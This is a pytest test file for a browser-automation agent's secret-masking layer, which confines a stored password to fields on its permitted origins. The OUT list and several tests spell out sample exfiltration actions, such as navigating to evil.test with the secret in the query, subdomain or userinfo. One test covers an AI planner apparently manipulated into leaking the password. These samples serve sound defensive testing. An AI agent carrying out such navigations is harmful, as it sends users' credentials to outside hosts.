"""A secret goes into fields of its origins, and nowhere else unless the run's owner has said so."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from control.errors import SecretRefused
from control.protocol import commands as c
from control.protocol.actions import Action
from control.protocol.models import NewRun, RunStatus, StepStatus
from control.secrets import references
from runner.run.masking import Masking
from tests.fakes import FakePlanner, click
from tests.runner.session_harness import ADA, BOB, session_harness

PASSWORD = "hunter2"
SHOP = "http://shop.test/start"


def action(type: str, **fields: str) -> Action:
    return Action.model_validate({"type": type, **fields})


def masking(secret: object = PASSWORD, **spec: Any) -> Masking:  # noqa: ANN401
    made = NewRun.model_validate({"url": SHOP, "instructions": "Buy it", "secrets": {"PW": secret}} | spec)
    masking = Masking(made.secrets, start_url=made.url)
    masking.spec(made)
    return masking


REF = "{{secret:PW}}"
OUT = [
    action("navigate", value=f"http://evil.test/?{REF}"),
    action("navigate", value=f"http://shop.test/?{REF}"),
    action("navigate", value=f"/?{REF}"),
    action("navigate", value=f"http://{REF}.evil.test/"),
    action("navigate", value=f"http://{REF}@evil.test/"),
    action("expect_text", selector="#a", value=REF),
    action("expect_url", value=f"*{REF}*"),
    action("click", selector=f"text={REF}"),
    action("type", selector=f"text={REF}", value="x"),
    action("drag", selector="#a", target=f"text={REF}"),
    action("press", selector="#a", value=REF),
]


@pytest.mark.parametrize("out", OUT, ids=str)
def test_a_way_out_is_refused_in_one_sentence(out: Action) -> None:
    with pytest.raises(SecretRefused, match="'PW' may") as refused:
        masking().resolve(masking().action(out))
    assert PASSWORD not in str(refused.value)


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        (PASSWORD, {"http://shop.test"}),
        ({"value": PASSWORD}, {"http://shop.test"}),
        (
            {"value": PASSWORD, "origins": ["https://LOGIN.test:443/", "http://b.test:81"]},
            {"https://login.test", "http://b.test:81"},
        ),
        ({"value": PASSWORD, "origins": ["*"]}, None),
        ({"value": PASSWORD, "origins": []}, set()),
    ],
)
def test_a_field_must_be_of_the_secrets_origins(given: object, wanted: set[str] | None) -> None:
    named = masking(given).action(action("type", selector="#a", value=PASSWORD))
    assert named.value == REF
    assert masking(given).origins_for(named) == (None if wanted is None else frozenset(wanted))


def test_a_field_of_two_secrets_must_be_of_the_origins_of_both() -> None:
    both = Masking(
        NewRun.model_validate(
            {
                "url": SHOP,
                "secrets": {
                    "A": {"value": "aaa", "origins": ["http://a.test", "http://b.test"]},
                    "B": {"value": "bbb", "origins": ["http://b.test"]},
                },
            }
        ).secrets
    )
    assert both.origins_for(action("type", selector="#a", value="{{secret:A}}{{secret:B}}")) == frozenset(
        {"http://b.test"}
    )


def test_the_owner_allows_more_by_use() -> None:
    allowed = masking({"value": PASSWORD, "use": ["navigation", "expectation", "selector"]})
    for each in OUT:
        if (each.type == "navigate" and each.value != f"http://shop.test/?{REF}") or each.type == "press":
            with pytest.raises(SecretRefused):
                allowed.resolve(each)
        else:
            assert PASSWORD in str(allowed.resolve(each))


def test_what_was_written_in_plain_goes_on_working() -> None:
    plain = masking()
    for each in (
        action("navigate", value=f"http://other.test/{PASSWORD}"),
        action("expect_text", selector="#a", value=f"Hello {PASSWORD}"),
        action("click", selector=f"text={PASSWORD}"),
    ):
        named = plain.action(each)
        assert PASSWORD not in str(named)
        assert plain.resolve(named) == each


def test_what_was_written_in_plain_opens_nothing_else() -> None:
    told = masking(instructions=f"Go to http://shop.test/{PASSWORD} and expect {PASSWORD}")
    assert told.resolve(action("navigate", value=f"http://shop.test/{REF}")).value == f"http://shop.test/{PASSWORD}"
    assert told.resolve(action("expect_text", selector="#a", value=REF)).value == PASSWORD
    told.found_action(action("select", selector="#a", value=PASSWORD))
    told.action(action("expect_text", selector="#a", value=PASSWORD))
    for out in OUT[:1] + OUT[2:5]:
        with pytest.raises(SecretRefused):
            told.resolve(out)


def test_user_info_stays_with_the_host_that_it_was_given_with() -> None:
    run = masking(url=f"http://ada:{'open'}sesame@shop.test/")
    named = run.refer("http://ada:opensesame@shop.test/")
    assert "sesame" not in named
    assert run.resolve(action("navigate", value=named)).value == "http://ada:opensesame@shop.test/"
    with pytest.raises(SecretRefused, match="the address that it was given with"):
        run.resolve(action("navigate", value=named.replace("shop.test", "evil.test")))


@pytest.mark.parametrize("origin", ["shop.test", "ftp://shop.test", "https://shop.test/path", "https://u:p@shop.test"])
def test_what_is_no_origin_is_refused(origin: str) -> None:
    with pytest.raises(ValidationError, match="is no origin: give scheme and host"):
        NewRun.model_validate(
            {"url": SHOP, "instructions": "Buy", "secrets": {"PW": {"value": PASSWORD, "origins": [origin]}}}
        )


async def test_an_override_that_would_tell_a_secret_is_refused_at_once(tmp_path: Path) -> None:
    planner = FakePlanner([click("#a")])
    async with session_harness(tmp_path, planner, mode="review", secrets={"PW": PASSWORD}) as run:
        run.start()
        await run.until(lambda: run.session.view().proposal)
        with pytest.raises(SecretRefused, match="may not be put into an address"):
            await run.do(c.StepOverride(action=OUT[0]))
        await run.do(c.StepOverride(action=action("type", selector="#pw", value=REF)))
        await run.until_step(1, StepStatus.PASSED)
        assert [done.value for done in run.driver.performed] == [PASSWORD]
        assert run.driver.origins == [frozenset({"http://shop.test"})]


async def test_a_planner_that_was_talked_into_it_fails_its_step(tmp_path: Path) -> None:
    async with session_harness(tmp_path, FakePlanner([OUT[0]]), secrets={"PW": PASSWORD}, helpTimeoutMs=0) as run:
        run.start()
        assert await run.finish() is RunStatus.FAILED
        (step,) = await run.steps()
        assert step.error
        assert "may not be put into an address" in step.error
        assert run.driver.performed == []


@pytest.mark.parametrize("of_run", [True, False])
async def test_controllers_may_be_forbidden_secrets_altogether(tmp_path: Path, of_run: bool) -> None:
    more: dict[str, Any] = {"controllerSecrets": False} if of_run else {"options": {"controller_secrets": False}}
    planner, later = FakePlanner([click("#a")]), FakePlanner([])
    async with session_harness(tmp_path, planner, later=later, mode="review", secrets={"PW": PASSWORD}, **more) as run:
        run.start()
        await run.until(lambda: run.session.view().proposal)
        typed = action("type", selector="#pw", value=REF)
        for command in (c.StepOverride(action=typed), c.UpdateInstructions(instructions=f"Type {REF} into 'Name'")):
            with pytest.raises(SecretRefused, match="controllers may not use secrets in this run"):
                await run.do(command, ADA)
        await run.do(c.StepOverride(action=typed), BOB)
        await run.until_step(1, StepStatus.PASSED)
        assert [done.value for done in run.driver.performed] == [PASSWORD]


async def test_what_the_secrets_are_for_is_kept_for_another_run_without_their_values(tmp_path: Path) -> None:
    given = {"value": PASSWORD, "origins": ["http://login.test"], "use": ["selector"]}
    async with session_harness(tmp_path, secrets={"PW": given, "NAME": "Grace"}) as run:
        assert run.session.creation()["secrets"] == {"PW": given | {"value": ""}, "NAME": ""}


def test_a_password_typed_by_hand_is_kept_with_the_origin_that_it_was_typed_at() -> None:
    masking = Masking({}, start_url="https://shop.test/")
    for password, url in (("opensesame", "https://login.test/in"), ("swordfish", "https://shop.test/in")):
        (name,) = references(masking.name_password(password, "pin", url))
        masking.keep(name)
    assert masking.kept() == {
        "typed_pin": {"value": "", "origins": ["https://login.test"], "use": []},
        "typed_pin_2": "",
    }
